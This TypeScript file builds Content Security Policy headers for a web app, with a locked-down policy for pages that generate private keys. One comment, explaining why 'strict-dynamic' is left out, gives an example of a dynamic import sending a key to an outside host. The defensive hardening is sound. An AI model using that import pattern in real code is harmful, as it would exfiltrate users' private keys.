const STRICT = /^\/(csr(\/p12)?|dossiers\/[^/]+\/certificate\/[^/]+)\/*(\.data)?$/i

/**
 * The pages that make or open private keys; a pure function of the path (`.data` included). Escapes are resolved
 * first, as the router does: `/c%73r` is the same page.
 */
export function isStrictPage(pathname: string): boolean {
  try {
    return STRICT.test(decodeURI(pathname))
  } catch {
    return false
  }
}

type PolicyOptions = {
  nonce: string
  /** Vite's style tags and its socket, in development only. */
  development: boolean
}

type PagePolicyOptions = PolicyOptions & {
  /** Origins of the login provider: browsers judge where a form is redirected to as well. */
  loginOrigins: readonly string[]
}

const JOIN = '; '

/** Where browsers tell what a policy stopped; the name is the one of the Reporting-Endpoints header. */
export const REPORTS_PATH = '/reports/csp'
export const REPORTING_ENDPOINTS = `csp="${REPORTS_PATH}"`

/** The policy of every ordinary page. */
export function pagePolicy({ nonce, development, loginOrigins }: PagePolicyOptions): string {
  return [
    "default-src 'none'",
    `script-src 'nonce-${nonce}' 'strict-dynamic'`,
    `style-src 'self'${development ? " 'unsafe-inline'" : ''}`,
    "img-src 'self' data:",
    "font-src 'self'",
    `connect-src 'self'${development ? ' ws:' : ''}`,
    "worker-src 'self'",
    "manifest-src 'self'",
    ["form-action 'self'", ...loginOrigins].join(' '),
    "frame-ancestors 'none'",
    "base-uri 'none'",
    "object-src 'none'",
    // Not all browsers know the newer one, and those that do leave the older aside.
    `report-uri ${REPORTS_PATH}`,
    'report-to csp',
  ].join(JOIN)
}

/**
 * The policy of a key page: nothing can be fetched, and no 'strict-dynamic', since that lets
 * `import('http://elsewhere/?key')` out (measured, design: joints.md 1). It reports nothing: a report repeats the
 * address that was stopped, which may hold the key, and no directive stops a report (decision 011).
 */
export function strictPolicy({ nonce, development }: PolicyOptions): string {
  return [
    "default-src 'none'",
    `script-src 'nonce-${nonce}' 'self'`,
    "worker-src 'self'",
    `style-src 'self'${development ? " 'unsafe-inline'" : ''}`,
    'img-src data:',
    "connect-src 'none'",
    "form-action 'self'",
    "frame-ancestors 'none'",
    "base-uri 'none'",
    "object-src 'none'",
  ].join(JOIN)
}

/** A worker obeys the policy on its own script's answer, not the page's: so every asset carries this one. */
export const ASSET_POLICY = ["default-src 'none'", "script-src 'self'", "connect-src 'none'"].join(JOIN)
